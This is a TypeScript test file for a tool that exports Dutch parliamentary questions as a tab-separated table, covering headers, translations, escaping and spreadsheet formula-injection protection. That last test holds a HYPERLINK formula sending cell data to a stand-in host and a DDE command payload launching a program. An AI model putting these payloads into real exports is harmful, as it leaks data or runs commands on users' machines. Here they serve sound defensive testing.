/** The Kamervragen view as a table to paste (client/src/overviewTable.ts, plain Node), in English and Dutch. */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { overviewTable, type OverviewDocument } from '../../../client/src/overviewTable';
import { dutch } from './dutch';

const late: OverviewDocument = {
  uri: 'file:///werk/2024Z18439.kvr',
  zaaknummer: '2024Z18439',
  title: 'Het verdwijnen van de restitutiepolis',
  indieners: ['Dijk (SP)', 'Mohandis (GroenLinks-PvdA)'],
  ingediend: '2024-11-14',
  state: 'te laat',
  deadline: '2024-12-05',
  answerTermDays: 21,
  days: -12,
  questions: 22,
  unanswered: 22,
  beantwoord: null,
  postponedOn: null,
};

const answered: OverviewDocument = {
  ...late,
  uri: 'file:///werk/2014Z19222.txt',
  zaaknummer: '2014Z19222',
  title: 'Te weinig capaciteit',
  indieners: ['Segers (ChristenUnie)'],
  ingediend: '2014-10-30',
  state: 'beantwoord',
  deadline: '2014-11-20',
  days: null,
  questions: 10,
  unanswered: 0,
  beantwoord: '2014-11-24',
};

test('a header and a row per document, tab-separated, in the order given', () => {
  const lines = overviewTable([late, answered], { t: (m) => m }).split('\n');
  assert.deepEqual(lines, [
    'Zaaknummer\tTitle\tSubmitted by\tSubmitted\tState\tDeadline\tDays left\tQuestions\tWithout answer\tAnswered on\tPostponed on',
    '2024Z18439\tHet verdwijnen van de restitutiepolis\tDijk (SP), Mohandis (GroenLinks-PvdA)\t2024-11-14\tOverdue\t2024-12-05\t-12\t22\t22\t\t',
    '2014Z19222\tTe weinig capaciteit\tSegers (ChristenUnie)\t2014-10-30\tAnswered\t2014-11-20\t\t10\t0\t2014-11-24\t',
    '',
  ]);
});

test('in Dutch: the header and the states as the view says them', () => {
  const [header, row] = overviewTable([{ ...late, state: 'uitgesteld', postponedOn: '2024-12-01' }], dutch).split('\n');
  assert.equal(header, 'Zaaknummer\tTitel\tIndieners\tIngediend\tStatus\tUiterste datum\tDagen over\tVragen\tZonder antwoord\tBeantwoord op\tUitgesteld op');
  assert.equal(row!.split('\t')[4], 'Uitgesteld');
  assert.equal(row!.split('\t')[10], '2024-12-01');
  assert.equal(overviewTable([{ ...late, state: 'te beantwoorden', days: 3 }], dutch).split('\n')[1]!.split('\t')[4], 'Te beantwoorden');
});

test('a tab or line end inside a value becomes a space: the row keeps its cells and every word', () => {
  const odd = { ...late, zaaknummer: null, title: 'Vragen\tover\r\nde\u2028wachtlijsten\n', indieners: [] };
  const lines = overviewTable([odd], { t: (m) => m }).split('\n');
  assert.equal(lines.length, 3, 'a header, one row and the final line end');
  const cells = lines[1]!.split('\t');
  assert.equal(cells.length, 11);
  assert.deepEqual(cells.slice(0, 3), ['', 'Vragen over de wachtlijsten ', '']);
});

test('a text a spreadsheet would read as a formula gets the \' that keeps it text; numbers and other text stay as they are', () => {
  const formula = { ...late, title: '=HYPERLINK("https://example.org/?"&A1,"Klik")', indieners: ['+cmd|\' /C calc\'!A0', '@SUM(1)'] };
  const cells = overviewTable([formula, { ...late, title: 'Vragen over 1 + 1 = 2' }], { t: (m) => m }).split('\n').slice(1, 3).map((l) => l.split('\t'));
  assert.deepEqual(cells[0]!.slice(1, 3), ['\'=HYPERLINK("https://example.org/?"&A1,"Klik")', '\'+cmd|\' /C calc\'!A0, @SUM(1)']);
  assert.equal(cells[0]![6], '-12', 'days late: a number');
  assert.equal(cells[1]![1], 'Vragen over 1 + 1 = 2');
  assert.equal(overviewTable([{ ...late, title: '-3 graden' }], { t: (m) => m }).split('\n')[1]!.split('\t')[1], '\'-3 graden');
});

test('no documents: the header alone', () => {
  assert.equal(overviewTable([], { t: (m) => m }).split('\n').length, 2);
});
